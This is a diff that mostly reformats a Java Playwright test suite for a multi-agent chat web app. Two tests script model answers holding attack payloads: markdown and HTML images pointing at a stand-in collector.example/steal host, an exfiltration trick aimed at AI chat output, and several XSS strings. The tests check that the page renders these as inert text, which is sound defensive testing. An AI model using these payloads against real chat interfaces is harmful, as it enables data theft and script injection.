@@ -12,6 +12,7 @@ import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
 import com.microsoft.playwright.options.AriaRole;
 import dev.outcrop.bedrock.local.Gate;
+import java.time.Duration;
 import java.util.List;
 import java.util.regex.Pattern;
 import org.junit.jupiter.api.Test;
@@ -26,7 +27,9 @@ class AskIT extends PageTest {
         assertThat(chat.page().locator("[data-agent]")).hasCount(3);
         assertThat(chat.page().locator("[data-agent]").first()).hasAttribute("data-agent", "concierge");
 
-        chat.page().getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("Chef AI")).click();
+        chat.page()
+                .getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("Chef AI"))
+                .click();
         assertThat(chat.page()).hasURL(server.base() + "/a/chef");
         assertThat(chat.page().getByText("What to cook for dinner")).isVisible();
         assertThat(chat.page().getByText("Weather, In season, Convert units")).isVisible();
@@ -34,7 +37,9 @@ class AskIT extends PageTest {
         chat.button("I have eggs, leeks and rice").click();
         assertThat(chat.questions()).hasText(Pattern.compile("I have eggs, leeks and rice"));
         chat.assertAnswer("Rice soup.");
-        assertThat(api.read("/api/conversations/" + chat.conversationId()).path("agent").asString())
+        assertThat(api.read("/api/conversations/" + chat.conversationId())
+                        .path("agent")
+                        .asString())
                 .isEqualTo("chef");
     }
 
@@ -94,7 +99,8 @@ class AskIT extends PageTest {
                 .as("a finished block keeps its node, to the end and beyond")
                 .isTrue();
         assertThat(chat.id("facts")).isVisible();
-        assertThat(chat.id("facts").getByText(Pattern.compile("\\d+ in, \\d+ out"))).isVisible();
+        assertThat(chat.id("facts").getByText(Pattern.compile("\\d+ in, \\d+ out")))
+                .isVisible();
     }
 
     @Test
@@ -143,7 +149,8 @@ class AskIT extends PageTest {
         chat.askUntil("completed", "One by zero?");
 
         assertThat(chat.tool("calculator")).hasAttribute("data-state", "failed");
-        assertThat(chat.tool("calculator").getByRole(AriaRole.GROUP, named("Error"))).isVisible();
+        assertThat(chat.tool("calculator").getByRole(AriaRole.GROUP, named("Error")))
+                .isVisible();
         assertThat(chat.answer()).containsText("That cannot be divided.");
     }
 
@@ -172,7 +179,8 @@ class AskIT extends PageTest {
     @Test
     void a_hand_over_shows_whom_it_asked_and_what_came_back() {
         Gate gate = Gate.closed();
-        model.script().turn(turn -> turn.toolUse("t1", "ask_chef", "{\"question\": \"Eggs and leeks: what can I cook?\"}"));
+        model.script()
+                .turn(turn -> turn.toolUse("t1", "ask_chef", "{\"question\": \"Eggs and leeks: what can I cook?\"}"));
         model.script().turn(turn -> turn.hold(gate).text("Leek omelette, says the chef."));
         model.script().turn(turn -> turn.text("The chef suggests a leek omelette."));
         Chat chat = visitor().with("concierge");
@@ -235,7 +243,8 @@ class AskIT extends PageTest {
         Chat chat = visitor().with("concierge");
         chat.askUntil("failed", "Something strange");
 
-        Locator alert = chat.page().getByRole(AriaRole.ALERT).filter(new Locator.FilterOptions().setHasText("Error e_"));
+        Locator alert =
+                chat.page().getByRole(AriaRole.ALERT).filter(new Locator.FilterOptions().setHasText("Error e_"));
         assertThat(alert).hasText(Pattern.compile("\\w.*\\. ?Error e_\\w+", Pattern.DOTALL));
         assertThat(chat.id("status")).hasText("The answer failed.");
         assertThat(chat.answer()).containsText("Half an ans");
@@ -249,9 +258,10 @@ class AskIT extends PageTest {
 
     @Test
     void an_image_in_an_answer_is_a_link_and_nothing_is_fetched() {
-        model.script().turn(turn -> turn.text(
-                "![the chart](https://collector.example/steal?what=secret) and <img src=\"https://collector.example/2\">"
-                        + " ![](https://collector.example/3)"));
+        model.script()
+                .turn(turn -> turn.text(
+                        "![the chart](https://collector.example/steal?what=secret) and <img src=\"https://collector.example/2\">"
+                                + " ![](https://collector.example/3)"));
         Chat chat = visitor().with("concierge");
         chat.askUntil("completed", "A chart?");
 
@@ -266,10 +276,15 @@ class AskIT extends PageTest {
     void what_looks_like_a_script_is_text() {
         String attack = "<script>window.hacked = 1</script><img src=x onerror=\"window.hacked = 2\">"
                 + "<svg onload=\"window.hacked = 3\"></svg><iframe srcdoc=\"<script>parent.hacked = 4</script>\"></iframe>";
-        model.script().turn(turn -> turn.toolUse(
-                "t1", "calculator", "{\"expression\": \"<img src=x onerror=window.hacked=5>\"}"));
-        model.script().turn(turn -> turn.reasoning(attack, "SIG")
-                .text(attack + "\n\n[click me](javascript:window.hacked=6) [data](data:text/html,<script>alert(1)</script>)"));
+        model.script()
+                .turn(turn ->
+                        turn.toolUse("t1", "calculator", "{\"expression\": \"<img src=x onerror=window.hacked=5>\"}"));
+        model.script()
+                .turn(
+                        turn -> turn.reasoning(attack, "SIG")
+                                .text(
+                                        attack
+                                                + "\n\n[click me](javascript:window.hacked=6) [data](data:text/html,<script>alert(1)</script>)"));
         Chat chat = visitor().with("concierge");
         chat.askUntil("completed", attack);
 
@@ -277,8 +292,7 @@ class AskIT extends PageTest {
         assertThat(chat.answer()).containsText("<script>window.hacked = 1</script>");
         assertThat(chat.answer().locator("script, img, iframe, svg[onload]")).hasCount(0);
         List<?> links = (List<?>) chat.answer().locator("a").evaluateAll("all => all.map(link => link.protocol)");
-        assertThat(links).allMatch(protocol -> !"javascript:".equals(protocol)
-                && !"data:".equals(protocol));
+        assertThat(links).allMatch(protocol -> !"javascript:".equals(protocol) && !"data:".equals(protocol));
         assertThat(chat.answer().getByText("click me")).isVisible();
         chat.answer().getByText("click me").click();
         assertThat(chat.page().evaluate("window.hacked")).isNull();
@@ -286,8 +300,8 @@ class AskIT extends PageTest {
 
     @Test
     void a_throttled_model_is_waited_for_and_the_page_says_so() {
-        model.script().turn(turn -> turn.httpError(
-                429, "ThrottlingException", "Too many requests", java.time.Duration.ofSeconds(2)));
+        model.script()
+                .turn(turn -> turn.httpError(429, "ThrottlingException", "Too many requests", Duration.ofSeconds(2)));
         model.script().otherwise(turn -> turn.text("Here after all."));
         Chat chat = visitor().with("concierge");
         chat.ask("Busy?");
